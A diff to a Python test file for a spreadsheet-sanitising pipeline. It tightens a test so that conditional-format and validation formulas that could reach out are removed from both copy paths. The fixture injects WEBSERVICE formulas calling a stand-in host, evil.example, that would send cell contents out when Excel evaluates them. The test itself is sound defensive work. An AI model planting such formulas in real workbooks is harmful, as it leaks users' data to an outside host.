@@ -5,8 +5,7 @@ findings), edits the package by hand and asks repack for the marked copy. Where 
 the copy must be a sound package (every part well-formed with a content type, every relationship
 and every r:id resolving, rows and cells in order, worksheet children in schema order), must say
 what openpyxl's copy says (returns_compare), and must keep nothing that could act; where it is not
-sure it must raise Unsure, never anything else. A test marked xfail(strict=True) shows a promise
-not kept (both ways of making a copy keep the formulas of conditional formats and validations)."""
+sure it must raise Unsure, never anything else."""
 from __future__ import annotations
 
 import hashlib
@@ -814,17 +813,30 @@ def test_an_active_array_formula_through_openpyxl(forms):
     assert not (isinstance(value, ArrayFormula) and "WEBSERVICE" in value.text)
 
 
-@pytest.mark.xfail(strict=True, reason="conditional-format and validation formulas are kept whatever they call "
-                                       "(both paths): WEBSERVICE runs when Excel evaluates them")
 def test_formulas_of_conditional_formats_and_validations(forms):
+    """A rule whose formula could reach out (WEBSERVICE) is gone on both ways of making a copy;
+    a colour rule and a drop-down list that stay inside the book stay."""
     data, content = forms["xw"]
     rules = ('<conditionalFormatting sqref="C26"><cfRule type="expression" priority="1"><formula>LEN(_xlfn.WEBSERVICE('
              '"http://evil.example/?"&amp;B3))&gt;0</formula></cfRule></conditionalFormatting>'
-             '<dataValidations count="1"><dataValidation type="custom" allowBlank="1" sqref="C27"><formula1>'
-             'LEN(_xlfn.WEBSERVICE("http://evil.example/"))&gt;0</formula1></dataValidation></dataValidations>')
+             '<conditionalFormatting sqref="C28"><cfRule type="cellIs" operator="lessThan" priority="2"><formula>0</formula>'
+             '</cfRule></conditionalFormatting>'
+             '<dataValidations count="2"><dataValidation type="custom" allowBlank="1" sqref="C27"><formula1>'
+             'LEN(_xlfn.WEBSERVICE("http://evil.example/"))&gt;0</formula1></dataValidation>'
+             '<dataValidation type="list" allowBlank="1" sqref="C29"><formula1>"优,良,中,差"</formula1></dataValidation>'
+             '</dataValidations>')
     hostile = edit(data, {SHEET1: lambda x: x.replace("<pageMargins", rules + "<pageMargins")})
     fast = made(hostile, content)
     assert "WEBSERVICE" not in part(fast, SHEET1)
+    assert 'sqref="C28"' in part(fast, SHEET1) and "优,良,中,差" in part(fast, SHEET1)
+    from pipeline.write.returns import openpyxl_copy
+
+    buf = io.BytesIO()
+    openpyxl_copy(Path("x.xlsx"), hostile, content).save(buf)
+    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("WEBSERVICE" in x for x in sheets)
+    assert any('sqref="C28"' in x for x in sheets) and any("优,良,中,差" in x for x in sheets)
 
 
 def test_an_ods_sheet_with_a_long_name_keeps_its_marks(forms, tmp_path):
